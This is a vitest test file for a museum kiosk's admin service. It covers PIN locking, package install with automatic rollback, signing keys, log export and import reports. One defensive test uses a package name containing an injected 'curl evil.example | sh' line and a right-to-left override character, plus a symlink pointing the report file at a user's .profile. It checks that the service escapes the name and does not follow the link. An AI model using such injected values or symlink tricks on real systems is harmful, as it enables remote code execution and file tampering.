import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { AdminService, BUILT_IN, packageIdOf, REPORT_FILE } from '../../../../core/admin/admin-service.ts';
import { PinStore } from '../../../../core/admin/pin.ts';
import { ContentStore } from '../../../../core/content/store.ts';
import type { ImportResultView, PushChannel } from '../../../../core/contract.ts';
import { readStatus } from '../../../../core/import/versions.ts';
import type { Stick } from '../../../../core/import/sticks.ts';
import { generateKeyPair } from '../../../../core/content/manifest.ts';
import { makePackedFolder } from '../../../fixtures/make-package.ts';

async function setup(health: 'silent' | 'bad' | 'good', trustedKeys: string[] = []) {
  return setupWith(health, trustedKeys);
}

/** The admin service over a fresh data folder and one stick; `late.health` says how the screen answers the next health check. */
async function setupWith(health: 'silent' | 'bad' | 'good', trustedKeys: string[] = []) {
  const data = fs.mkdtempSync(path.join(os.tmpdir(), 'admin-svc-'));
  const pins = new PinStore(data);
  await pins.set('123456');
  const content = new ContentStore({ dataDir: data, defaultDir: path.resolve('tests/fixtures/packages/minimal') });
  const pkg = await makePackedFolder('2.0.0');
  const sticks: Stick[] = [
    { mountPoint: path.dirname(pkg.dir), label: 'STICK', packages: [{ path: pkg.dir, kind: 'folder', name: 'package' }] },
  ];
  const pushes: [PushChannel, unknown][] = [];
  const late: { admin?: AdminService; health: 'silent' | 'bad' | 'good' } = { health };
  let result: (r: ImportResultView) => void;
  const finished = new Promise<ImportResultView>((resolve) => (result = resolve));
  const admin = new AdminService({
    dataDir: data,
    content,
    pins,
    sticks: () => sticks,
    trustedKeys: async () => trustedKeys,
    healthTimeoutMs: 1500,
    refresh: async () => {
      const active = await content.refresh();
      if (late.health !== 'silent' && active.source === 'installed')
        setTimeout(() => late.admin!.reportHealth(active.key, late.health === 'good'), 10);
      return { key: active.key };
    },
    push: (channel, payload) => {
      pushes.push([channel, payload]);
      if (channel === 'import:result') result(payload as ImportResultView);
    },
  });
  late.admin = admin;
  return { data, admin, content, sticks, pushes, finished, late, packageId: packageIdOf(sticks[0]!.packages[0]!) };
}

describe('admin service', () => {
  it('refuses every admin request until the PIN unlocks it', async () => {
    const { admin } = await setup('good');
    expect(() => admin.requireUnlocked('admin:overview')).toThrow(/the admin screen is locked/);
    expect(await admin.unlock('654321')).toEqual({ ok: false, reason: 'wrong', triesLeft: 4 });
    expect(await admin.unlock('123456')).toEqual({ ok: true });
    expect(() => admin.requireUnlocked('admin:overview')).not.toThrow();
    admin.lock();
    expect(() => admin.requireUnlocked('admin:overview')).toThrow();
  });

  it('installs, shows the new content, and keeps it when the screen reports it drew', async () => {
    const { admin, finished, packageId, data, pushes } = await setup('good');
    const inspected = await admin.inspect(packageId);
    expect(inspected.ok).toBe(true);
    // The fixture is another exhibit than the built-in one on screen: staff confirm replacing it.
    expect(inspected.needsConfirmation).toMatchObject({ reason: 'other-exhibit', incomingId: 'fixture' });
    expect(admin.install(packageId, true)).toEqual({ started: true });
    const r = await finished;
    expect(r).toMatchObject({ ok: true, version: '2.0.0', rolledBack: false });
    expect((await readStatus(data)).active?.version).toBe('2.0.0');
    expect(pushes.some(([c]) => c === 'import:progress')).toBe(true);
  });

  it.each(['silent', 'bad'] as const)('rolls back by itself when the new content does not draw (%s)', async (health) => {
    const { admin, finished, packageId, data, content, sticks } = await setup(health);
    admin.install(packageId, true);
    const r = await finished;
    expect(r).toMatchObject({ ok: false, rolledBack: true });
    // The screen says it came back by itself in the staff's language; no English problem rides along.
    expect(r.problems).toEqual([]);
    expect((await readStatus(data)).active).toBeNull();
    expect((await content.active()).source).toBe('default');
    const report = fs.readFileSync(path.join(sticks[0]!.mountPoint, REPORT_FILE), 'utf8');
    expect(report).toContain('NOT INSTALLED — 未安装 — не установлено (rolled back)');
    expect(report).toContain('✗ exhibit.json: the new content did not show correctly on screen, so the previous content came back');
  });

  it('goes back to the version an install replaced when the new one does not draw', async () => {
    const { admin, data, sticks, pushes, late } = await setupWith('good');
    const results = () => pushes.filter(([c]) => c === 'import:result').map(([, p]) => p as ImportResultView);
    const first = await makePackedFolder('3.0.0');
    fs.cpSync(first.dir, path.join(sticks[0]!.mountPoint, 'first'), { recursive: true });
    sticks[0]!.packages.push({ path: path.join(sticks[0]!.mountPoint, 'first'), kind: 'folder', name: 'first' });
    admin.install(packageIdOf(sticks[0]!.packages[1]!), true);
    await expect.poll(() => results().length, { timeout: 20_000 }).toBe(1);
    const kept = (await readStatus(data)).active!;
    expect(kept.version).toBe('3.0.0');
    late.health = 'bad';
    admin.install(packageIdOf(sticks[0]!.packages[0]!), true);
    await expect.poll(() => results().length, { timeout: 20_000 }).toBe(2);
    expect(results()[1]).toMatchObject({ ok: false, rolledBack: true });
    expect((await readStatus(data)).active?.name).toBe(kept.name);
  });

  it('offers the built-in exhibit as a rollback target once something is installed', async () => {
    const { admin, finished, packageId, content } = await setup('good');
    admin.install(packageId, true);
    await finished;
    const overview = await admin.overview();
    expect(overview.previous.map((v) => v.name)).toContain(BUILT_IN);
    expect(await admin.rollback(BUILT_IN)).toEqual({ ok: true, answer: { code: 'rolled-back', version: '1.0.0' } });
    expect((await content.active()).source).toBe('default');
  });

  it('tells the admin screen that no signing key is trusted, or which keys are', async () => {
    expect((await (await setup('good')).admin.overview()).signing).toEqual({ trustedKeyIds: [] });
    const museum = generateKeyPair();
    const other = generateKeyPair();
    const { admin } = await setup('good', [museum.publicKeyPem, other.publicKeyPem]);
    expect((await admin.overview()).signing).toEqual({ trustedKeyIds: [museum.keyId, other.keyId] });
  });

  it('still opens the admin screen when settings.json holds a key it cannot read', async () => {
    const museum = generateKeyPair();
    const { admin } = await setup('good', ['not a key', museum.publicKeyPem]);
    expect((await admin.overview()).signing).toEqual({ trustedKeyIds: [museum.keyId] });
  });

  it('writes the import report onto the stick without following a link there, with the stick’s names escaped', async () => {
    const { admin, finished, packageId, sticks } = await setup('good');
    const stickDir = sticks[0]!.mountPoint;
    const profile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'home-')), '.profile');
    fs.writeFileSync(profile, '# the kiosk user’s own\n');
    fs.symlinkSync(profile, path.join(stickDir, 'kiosk-import-report.txt'));
    sticks[0]!.packages[0]!.name = 'pkg\ncurl evil.example | sh\u202e';
    admin.install(packageId, true);
    const r = await finished;
    expect(r.reportWritten).toBe(true);
    expect(fs.readFileSync(profile, 'utf8')).toBe('# the kiosk user’s own\n');
    const report = path.join(stickDir, 'kiosk-import-report.txt');
    expect(fs.lstatSync(report).isFile()).toBe(true);
    const text = fs.readFileSync(report, 'utf8');
    expect(text.split('\n')[0]).toBe('Dongfanghong kiosk: import of "pkg\\u000acurl evil.example | sh\\u202e"');
    expect(text).not.toContain('\u202e');
  });

  it('writes no report when the report’s name on the stick is a folder, and says so in the result', async () => {
    const { admin, finished, packageId, sticks } = await setup('good');
    fs.mkdirSync(path.join(sticks[0]!.mountPoint, 'kiosk-import-report.txt'));
    admin.install(packageId, true);
    expect((await finished).reportWritten).toBe(false);
  });

  it('installs the same version again (a typo fixed, the version not bumped): the screen reloads it and it stays', async () => {
    const { admin, packageId, data, pushes } = await setup('good');
    const results = () => pushes.filter(([c]) => c === 'import:result').map(([, p]) => p as ImportResultView);
    admin.install(packageId, true);
    await expect.poll(() => results().length, { timeout: 20_000 }).toBe(1);
    const first = (await readStatus(data)).active!.name;
    expect((await admin.inspect(packageId)).needsConfirmation).toMatchObject({ reason: 'same' });
    admin.install(packageId, true);
    await expect.poll(() => results().length, { timeout: 20_000 }).toBe(2);
    expect(results()[1]).toMatchObject({ ok: true, version: '2.0.0', rolledBack: false });
    const status = await readStatus(data);
    expect(status.active!.name).not.toBe(first);
    expect(status.active!.version).toBe('2.0.0');
  });

  it('sends each problem’s place as steps with zero-based indexes, for the admin screen to put in the staff’s words', async () => {
    const { admin, sticks, packageId } = await setup('good');
    const file = path.join(sticks[0]!.packages[0]!.path, 'exhibit.json');
    const exhibit = JSON.parse(fs.readFileSync(file, 'utf8'));
    delete exhibit.sections[0].panels[0].body['zh-Hans'];
    fs.writeFileSync(file, JSON.stringify(exhibit));
    const inspected = await admin.inspect(packageId);
    expect(inspected.ok).toBe(false);
    expect(inspected.problems).toContainEqual(
      expect.objectContaining({ file: 'exhibit.json', place: 'sections[0].panels[0].body', path: ['sections', 0, 'panels', 0, 'body'] }),
    );
  });

  it('answers every refusal as a code for the screen to say in the staff’s language, never as a sentence', async () => {
    const { admin, finished, packageId, sticks } = await setup('good');
    expect(await admin.rollback('0009-nothing-1.0.0')).toEqual({
      ok: false,
      answer: { code: 'no-such-version', name: '0009-nothing-1.0.0' },
    });
    expect(admin.install(packageId, true)).toEqual({ started: true });
    expect(admin.install(packageId, true)).toEqual({ started: false, answer: { code: 'import-running' } });
    await finished;
    await expect.poll(async () => (await admin.overview()).importing).toBe(false);
    expect(await admin.exportLogs('NOT-THERE')).toEqual({ ok: false, files: [], answer: { code: 'stick-gone' } });
    const pulled = sticks[0]!.packages.pop()!;
    expect(admin.install(packageIdOf(pulled), false)).toEqual({ started: false, answer: { code: 'package-gone' } });
    expect(await admin.inspect(packageIdOf(pulled))).toEqual({ ok: false, problems: [], warnings: [], refused: { code: 'package-gone' } });
  });

  it('says how many log files went onto the stick, or why none could', async () => {
    const { admin, data, sticks } = await setup('good');
    fs.mkdirSync(path.join(data, 'logs'), { recursive: true });
    fs.writeFileSync(path.join(data, 'logs', 'kiosk.log'), 'a line\n');
    const saved = await admin.exportLogs('STICK');
    expect(saved).toMatchObject({ ok: true, answer: { code: 'logs-saved', count: saved.files.length } });
    expect(saved.files.length).toBeGreaterThan(0);
    const blocked = fs.mkdtempSync(path.join(os.tmpdir(), 'blocked-'));
    fs.writeFileSync(path.join(blocked, 'kiosk-logs'), 'a file where the folder goes');
    sticks.push({ mountPoint: blocked, label: 'BLOCKED', packages: [] });
    expect(await admin.exportLogs('BLOCKED')).toMatchObject({ ok: false, files: [], answer: { code: 'logs-not-written' } });
  });

  it('carries the code of each problem the import finds itself to the screen', async () => {
    const { admin, finished, packageId, sticks } = await setup('good');
    fs.rmSync(path.join(sticks[0]!.packages[0]!.path, 'pictures', 'b.webp'));
    admin.install(packageId, true);
    const r = await finished;
    expect(r.ok).toBe(false);
    expect(r.problems).toContainEqual(
      expect.objectContaining({ file: 'pictures/b.webp', finding: { code: 'file-missing', size: expect.any(Number) as number } }),
    );
  });
});
